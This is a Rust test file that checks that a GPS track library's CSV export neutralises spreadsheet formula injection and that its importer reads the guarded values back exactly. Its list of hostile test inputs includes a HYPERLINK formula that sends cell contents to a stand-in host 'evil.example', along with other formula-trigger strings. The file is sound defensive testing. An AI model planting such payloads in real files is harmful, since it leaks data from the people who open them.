//! CSV export that a spreadsheet opens safely: hostile track names and addresses come out with
//! no cell starting with a formula trigger (`=`, `+`, `-`, `@`, tab, CR) unless it is a number,
//! as read by the independent `csv` crate; and our importer reads every value back exactly.

mod common;

use common::{bare, export};
use trackmate_tracks::import;
use trackmate_tracks::{Format, Segment, Track};

const HOSTILE: &[&str] = &[
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\tX",
    "\rX",
    "=1,\"2\"\n=3",
    "'=already quoted",
    "''@twice",
    "-inf",
    "plain, \"quoted\"\r\nnext line",
    "-",
    "'",
];

/// One track per hostile name, each point's address hostile too; the coordinates and altitudes
/// are negative so numbers that start with `-` are in the file as well.
fn hostile_tracks() -> Vec<Track> {
    HOSTILE
        .iter()
        .enumerate()
        .map(|(i, name)| {
            let mut p = bare("2024-05-01T10:00:00-03:00", -12.5, -3.0 - i as f64);
            p.address = Some(HOSTILE[(i + 1) % HOSTILE.len()].to_string());
            p.alt = Some(-0.5);
            p.speed = Some(12.0);
            Track {
                name: name.to_string(),
                segments: vec![Segment {
                    name: None,
                    id: None,
                    points: vec![p],
                }],
            }
        })
        .collect()
}

const TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

#[test]
fn no_cell_starts_a_formula_unless_it_is_a_number() {
    let tracks = hostile_tracks();
    let out = export(Format::Csv, &tracks);
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(out.as_bytes());
    let mut cells = 0;
    let mut numbers_kept = 0;
    let mut rows = 0;
    for record in reader.records() {
        let record = record.unwrap();
        rows += 1;
        for c in record.iter() {
            cells += 1;
            if c.starts_with(TRIGGERS) {
                assert!(
                    c.parse::<f64>().is_ok_and(f64::is_finite),
                    "a formula-like cell was written as is: {c:?}"
                );
                numbers_kept += 1;
            }
        }
    }
    assert_eq!(rows, 1 + HOSTILE.len(), "the header and one row per point");
    assert_eq!(cells, rows * 15);
    // -12.5, the longitude and -0.5 on every row: negative numbers stay numbers.
    assert_eq!(numbers_kept, 3 * HOSTILE.len());

    // Every hostile value is in the file, behind exactly one `'` where it needed a guard.
    let mut reader = csv::Reader::from_reader(out.as_bytes());
    for (record, track) in reader.records().zip(&tracks) {
        let record = record.unwrap();
        let name = &record[0];
        if track.name.starts_with(TRIGGERS) || track.name.starts_with("'") {
            assert!(name.starts_with('\''), "{name:?}");
        }
        assert!(
            name.ends_with(track.name.trim_start_matches('\'')),
            "{name:?}"
        );
        assert_eq!(&record[3], "-12.5");
        assert_eq!(&record[5], "-0.5");
    }
}

#[test]
fn our_importer_reads_the_guarded_cells_back_exactly() {
    for track in hostile_tracks() {
        let text = export(Format::Csv, std::slice::from_ref(&track));
        let read = import::parse(text.as_bytes(), Format::Csv)
            .unwrap_or_else(|e| panic!("{:?}: {e}\n{text}", track.name));
        assert_eq!(read.track.name, track.name);
        let got = &read.track.segments[0].points[0];
        let want = &track.segments[0].points[0];
        assert_eq!(got.address, want.address);
        assert_eq!((got.lat, got.lng, got.alt), (want.lat, want.lng, want.alt));
        assert_eq!(got.time, want.time);
    }
}
